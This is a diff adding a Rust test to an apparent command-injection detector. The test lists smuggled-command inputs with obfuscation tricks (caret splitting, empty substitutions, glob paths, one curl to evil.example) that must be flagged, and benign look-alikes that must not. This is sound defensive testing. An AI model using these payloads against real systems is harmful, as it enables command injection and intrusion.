@@ -461,6 +461,46 @@ fn finds_commands_behind_separators_substitutions_and_calls() {
 }
 
 #[test]
+fn finds_commands_that_a_shell_puts_together_or_that_another_runs() {
+    assert_found(
+        Class::Command,
+        &[
+            "192.0.2.7|grep root /etc/hosts",
+            "7;sed p /etc/hosts",
+            "7;openssl s_client -connect x:9",
+            "7;kill -9 7",
+            "x;A=7 cat /etc/hosts",
+            "x;env A=7 cat /etc/hosts",
+            "x;timeout 5 cat /etc/hosts",
+            "192.0.2.7&who^ami",
+            "7|c^at x",
+            "7;who$()ami",
+            "7;$'cat' /etc/hosts",
+            "7;/b?n/c?t /etc/hosts",
+            "7;${PATH:0:7}bin",
+            "7;$0<<<id",
+            "7$(which cat) /etc/hosts",
+            "7<(curl http://evil.example)",
+            "7&&echo x",
+        ],
+    );
+    for value in [
+        "session=abc; theme=dark; a=7 b",
+        "lang=en; note=see the cat",
+        "it was short; python was left out of it, see the notes",
+        "costs $0.99; or less",
+        "a|b^c",
+        "x > (time), y < (top)",
+        "$(MAKE) and $(document)",
+        "${name:-none} and ${a:b}",
+        "where? /a?b/ or so",
+        "https://x.example/?a=1&b=2 cat -x",
+    ] {
+        assert_eq!(rule_of(value), None, "{value}");
+    }
+}
+
+#[test]
 fn finds_what_a_template_engine_would_run() {
     assert_found(
         Class::Template,
